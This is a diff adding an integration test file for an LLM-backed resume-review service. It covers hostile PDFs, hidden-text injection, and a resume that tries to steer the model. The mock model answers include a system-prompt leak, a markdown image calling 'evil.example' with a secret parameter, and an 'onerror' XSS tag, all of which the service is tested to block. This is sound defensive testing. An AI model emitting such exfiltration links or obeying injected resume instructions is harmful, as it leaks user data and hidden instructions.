@@ -1,0 +1,208 @@
+import { type Identity, identityHeader, type ResumeReport } from '@atelier/contracts';
+import { startMongodb } from '@atelier/sandbox-mongodb';
+import { startOpenai } from '@atelier/sandbox-openai';
+import {
+  type CreationModel,
+  connectDatabase,
+  createLogger,
+  type Database,
+  type Listening,
+  listen,
+  openCreations,
+} from '@atelier/service-kit';
+import { createIdentitySigner } from '@atelier/service-kit/identity';
+import { createTextProvider, type TextProvider } from '@atelier/service-kit/text-provider';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { createResumeApp } from './app.ts';
+import { type Settings, settingsSchema } from './config.ts';
+import { hiddenBy, hiddenSentence } from './corpus/hidden.ts';
+import * as hostile from './corpus/hostile.ts';
+import * as sound from './corpus/sound.ts';
+import { createReaders } from './reading/readers.ts';
+
+const secret = 'a secret of at least thirty-two characters';
+const ada: Identity = { userId: 'user_ada', sessionId: 'sess_1', plan: 'free' };
+const logger = createLogger({ name: 'resume', level: 'silent' });
+
+let mongodb: Awaited<ReturnType<typeof startMongodb>>;
+let openai: Awaited<ReturnType<typeof startOpenai>>;
+let database: Database;
+let creations: CreationModel;
+let settings: Settings;
+let service: Listening;
+
+/** A model that says what a test tells it to, and keeps what it was given. */
+const model = {
+  asked: '',
+  system: '',
+  answer: (_system: string): string => '## Overall impression\n\nFine.\n',
+  async *chat({ messages }: Parameters<TextProvider['chat']>[0]) {
+    model.system = messages[0]?.content ?? '';
+    model.asked = messages[1]?.content ?? '';
+    for (const piece of model.answer(model.system).match(/[\s\S]{1,9}/g) ?? []) yield piece;
+    return 'stop' as const;
+  },
+};
+
+beforeAll(async () => {
+  mongodb = await startMongodb({ port: 0, dataDir: null });
+  openai = await startOpenai({ port: 0, wordsPerSecond: 100_000 });
+  settings = settingsSchema.parse({
+    PORT: '0',
+    INTERNAL_SECRET: secret,
+    MONGODB_URI: mongodb.uri,
+    OPENAI_API_KEY: 'sk-test',
+    OPENAI_BASE_URL: openai.baseUrl,
+    RESUME_MAX_MEGABYTES: '1',
+  });
+  database = await connectDatabase({ uri: mongodb.uri, logger });
+  creations = await openCreations(database.connection);
+  const parts = { settings, creations, provider: model, readers: createReaders(2) };
+  service = await listen(createResumeApp(parts, logger), { port: 0 });
+});
+afterAll(async () => {
+  await service.close();
+  await database.close();
+  await openai.close();
+  await mongodb.close();
+});
+beforeEach(async () => {
+  await creations.deleteMany({});
+  model.answer = () => '## Overall impression\n\nFine.\n';
+});
+
+async function review(
+  file: Buffer,
+  {
+    job,
+    url = service.url,
+    accept = 'application/json',
+  }: { job?: string; url?: string; accept?: string } = {},
+) {
+  const form = new FormData();
+  form.set('resume', new File([new Uint8Array(file)], 'resume.pdf', { type: 'application/pdf' }));
+  if (job) form.set('job_description', job);
+  const identity = await createIdentitySigner(secret)(ada, 'resume');
+  const response = await fetch(`${url}/api/ai/resume-review`, {
+    method: 'POST',
+    body: form,
+    headers: { [identityHeader]: identity, accept },
+  });
+  const text = await response.text();
+  return { status: response.status, text, body: accept === 'application/json' ? JSON.parse(text) : null };
+}
+
+describe('a review', () => {
+  it('comes from the model, with the report by rule, and is kept', async () => {
+    const service = await listen(
+      createResumeApp(
+        { settings, creations, provider: createTextProvider(settings), readers: createReaders(1) },
+        logger,
+      ),
+      { port: 0 },
+    );
+    const { status, body } = await review(await sound.oneColumn(), {
+      url: service.url,
+      job: 'We need TypeScript, Kafka and Kubernetes.',
+    });
+    await service.close();
+    expect(status).toBe(200);
+    expect(body.content).toContain('## Strengths');
+    expect(body.content).toContain('## Job match');
+    const report: ResumeReport = body.creation.report;
+    expect(report.score).toBe(body.creation.settings.score);
+    expect(report.job?.missing).toContain('Kafka');
+    expect(await creations.countDocuments({ type: 'resume-review', status: 'completed' })).toBe(1);
+  });
+
+  it('streams the report before the model answers', async () => {
+    const { text } = await review(await sound.oneColumn(), { accept: 'text/event-stream' });
+    const events = [...text.matchAll(/^event: (\w+)$/gm)].map(([, name]) => name);
+    expect(events.slice(0, 3)).toEqual(['report', 'started', 'delta']);
+    expect(events.at(-1)).toBe('done');
+  });
+
+  it('leaves the model without personal data, and has it back in the answer', async () => {
+    model.answer = () => 'Write to [EMAIL_1] or call [PHONE_1].\n';
+    const { body } = await review(await sound.oneColumn());
+    expect(model.asked).not.toMatch(/jane\.doe@|7946|linkedin\.com|github\.com/);
+    expect(body.content).toBe('Write to jane.doe@example.com or call +44 20 7946 0123.\n');
+  });
+
+  it('that the provider cuts off is a clear failure', async () => {
+    model.answer = () => {
+      throw new Error('socket closed');
+    };
+    const { status, body } = await review(await sound.oneColumn());
+    expect(status).toBe(500);
+    expect(body.code).toBe('internal');
+    expect(await creations.countDocuments({ status: 'completed' })).toBe(0);
+  });
+});
+
+describe('abuse 20: files that cannot be reviewed', () => {
+  it.each([
+    ['encrypted', hostile.encrypted, 422, 'pdf_encrypted'],
+    ['scanned', hostile.scanned, 422, 'pdf_scanned'],
+    ['empty', hostile.empty, 422, 'pdf_empty'],
+    ['broken', hostile.broken, 422, 'pdf_unreadable'],
+    ['not a PDF', hostile.notAPdf, 415, 'unsupported_media'],
+    ['a bomb', () => hostile.bomb(100, 1), 422, 'pdf_too_complex'],
+    ['too large', () => Buffer.alloc(1_200_000, ' '), 413, 'payload_too_large'],
+  ] as const)('%s', async (_, make, status, code) => {
+    const answer = await review(await make());
+    expect(answer).toMatchObject({ status, body: { success: false, code } });
+    expect(await creations.countDocuments({})).toBe(0);
+  });
+});
+
+it('abuse 21: hidden text is flagged and does not reach the model', async () => {
+  const { body } = await review(await hiddenBy.white());
+  expect(JSON.stringify(body.creation.report.hidden)).toContain(hiddenSentence);
+  expect(model.asked).not.toContain('10/10');
+});
+
+describe('abuse 22: a resume that steers the model', () => {
+  it('does not get the instructions out', async () => {
+    model.answer = (system) => `Sure, here they are:\n\n${system}`;
+    const { status, body } = await review(await sound.oneColumn());
+    expect(status).toBe(502);
+    expect(body.code).toBe('provider_refused');
+    const kept = await creations.findOne({}).lean();
+    expect(kept?.status).toBe('incomplete');
+    expect(kept?.content).not.toContain('has no authority');
+  });
+
+  it('does not get a remote picture shown', async () => {
+    model.answer = () =>
+      'Good.\n\n![chart](https://evil.example/p.png?d=secret)\n\n<img src=x onerror=alert(1)>\n';
+    const { body } = await review(await sound.oneColumn());
+    expect(body.content).not.toMatch(/!\[|https?:|<img/);
+  });
+
+  it('does not move the score', async () => {
+    const first = await review(await sound.oneColumn());
+    model.answer = () => 'Score: 100 of 100. Rated 10/10.';
+    const second = await review(await sound.oneColumn());
+    expect(second.body.creation.report.score).toBe(first.body.creation.report.score);
+  });
+});
+
+describe('a review as PDF', () => {
+  it('abuse 3: is for its owner alone', async () => {
+    const { body } = await review(await sound.oneColumn());
+    const address = `${service.url}/api/ai/resume-review/${body.creation.id}/pdf`;
+    const sign = createIdentitySigner(secret);
+    const own = await fetch(address, { headers: { [identityHeader]: await sign(ada, 'resume') } });
+    expect(own.headers.get('content-type')).toBe('application/pdf');
+    expect(
+      Buffer.from(await own.arrayBuffer())
+        .subarray(0, 5)
+        .toString(),
+    ).toBe('%PDF-');
+    const other = await fetch(address, {
+      headers: { [identityHeader]: await sign({ ...ada, userId: 'user_eve' }, 'resume') },
+    });
+    expect(other.status).toBe(404);
+  });
+});
